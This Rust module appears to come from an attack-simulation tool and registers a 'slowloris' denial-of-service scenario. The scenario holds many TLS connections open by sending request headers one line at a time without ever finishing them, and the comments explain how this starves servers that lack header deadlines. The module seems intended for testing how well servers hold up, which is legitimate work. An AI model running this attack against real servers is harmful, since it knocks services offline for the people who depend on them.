//! `slowloris`: many TLS connections, each sending a request head that never ends (one more
//! header line every `slow_interval`), reconnecting whenever the server cuts one. A server
//! with a bounded pool of connections and no header deadline runs out of room for anyone else.

use super::drip::{self, Drip};
use crate::scenarios::{Load, Run, Scenario};

/// The registry entry.
pub const SCENARIO: Scenario = Scenario {
    name: "slowloris",
    kind: "dos",
    description: "many connections sending a request head one header line at a time, forever",
    run: Run::Dos(|ctx, counters| Box::pin(drip::run(ctx, counters, DRIP))),
    load: Load::Connections,
};

const DRIP: Drip = Drip {
    opening: |host| {
        format!("GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: attack-sim slowloris\r\n")
    },
    piece: |n| format!("X-Slow-{n}: {n}\r\n"),
};
